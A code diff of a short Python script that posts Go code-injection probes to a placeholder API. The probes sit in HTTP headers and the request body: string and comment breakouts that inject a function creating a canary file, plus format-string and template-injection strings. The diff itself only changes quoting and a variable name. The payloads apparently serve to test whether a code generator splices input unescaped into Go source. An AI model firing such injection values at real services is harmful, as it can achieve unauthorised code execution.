@@ -2,20 +2,20 @@ import requests
 
 url = "https://api.example.com/run"
 headers = {
-    "X-Try-1": "\"+func() string { os.Create(\"snipgen-canary\"); return \"\" }()+\"",
-    "X-Try-2": "`+func() string { os.Create(\"snipgen-canary\"); return \"\" }()+`",
-    "X-Try-3": "\\\"+func() string { os.Create(\"snipgen-canary\"); return \"\" }()+\\\"",
-    "X-Try-4": "\\`+func() string { os.Create(\"snipgen-canary\"); return \"\" }()+\\`",
+    "X-Try-1": '"+func() string { os.Create("snipgen-canary"); return "" }()+"',
+    "X-Try-2": '`+func() string { os.Create("snipgen-canary"); return "" }()+`',
+    "X-Try-3": '\\"+func() string { os.Create("snipgen-canary"); return "" }()+\\"',
+    "X-Try-4": '\\`+func() string { os.Create("snipgen-canary"); return "" }()+\\`',
     "X-Try-5": "'+func() string { os.Create(\"snipgen-canary\"); return \"\" }()+'",
-    "X-Try-6": "*/func() string { os.Create(\"snipgen-canary\"); return \"\" }()/*",
-    "X-Try-7": "//func() string { os.Create(\"snipgen-canary\"); return \"\" }()",
+    "X-Try-6": '*/func() string { os.Create("snipgen-canary"); return "" }()/*',
+    "X-Try-7": '//func() string { os.Create("snipgen-canary"); return "" }()',
     "X-Try-8": "%s %v %!d(x) %[1]d %%",
-    "X-Try-9": "{{.Method}} {{printf \"%s\" .}} {{template \"x\"}} {{/* x */}} {{end}} {{define \"x\"}}",
-    "X-Try-10": "{{`}}`}} {{\"{{\"}}",
+    "X-Try-9": '{{.Method}} {{printf "%s" .}} {{template "x"}} {{/* x */}} {{end}} {{define "x"}}',
+    "X-Try-10": '{{`}}`}} {{"{{"}}',
     "X-Try-12": "\\",
     "Content-Type": "text/plain",
 }
-payload = """\
+data = """\
 "+func() string { os.Create("snipgen-canary"); return "" }()+"
 `+func() string { os.Create("snipgen-canary"); return "" }()+`
 \\"+func() string { os.Create("snipgen-canary"); return "" }()+\\"
@@ -31,5 +31,5 @@ var _ = func() string { os.Create("snipgen-canary"); return "" }()
 //
 \\"""
 
-response = requests.post(url, headers=headers, data=payload)
+response = requests.post(url, headers=headers, data=data)
 print(response.text)
